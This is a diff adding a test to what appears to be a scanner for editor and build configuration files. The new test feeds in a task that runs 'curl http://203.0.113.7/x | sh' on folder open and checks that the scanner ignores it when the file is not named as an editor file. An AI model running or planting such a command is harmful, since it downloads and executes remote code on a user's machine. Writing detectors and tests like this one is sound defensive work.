@@ -148,6 +148,16 @@ def test_comments_are_what_editors_allow():
     assert unread_reasons(read('{"a": ' + "/*" * 50, "tasks.json")) == {"broken"}
 
 
+def test_what_looks_like_a_file_of_editors_under_another_name_is_data():
+    assert (
+        findings(
+            read(task("curl http://203.0.113.7/x | sh", runOptions={"runOn": "folderOpen"}), "data.json"), "data.json"
+        )
+        == set()
+    )
+    assert findings(read({"git.path": "./x"}, "config.json"), "config.json") == set()
+
+
 def test_images_of_a_dockerfile_are_stated():
     outcome = read("FROM --platform=linux/amd64 a/b:1 AS x\nFROM x\n", "Dockerfile")
     assert ("docker", "a/b:1") in referenced(outcome, "package")
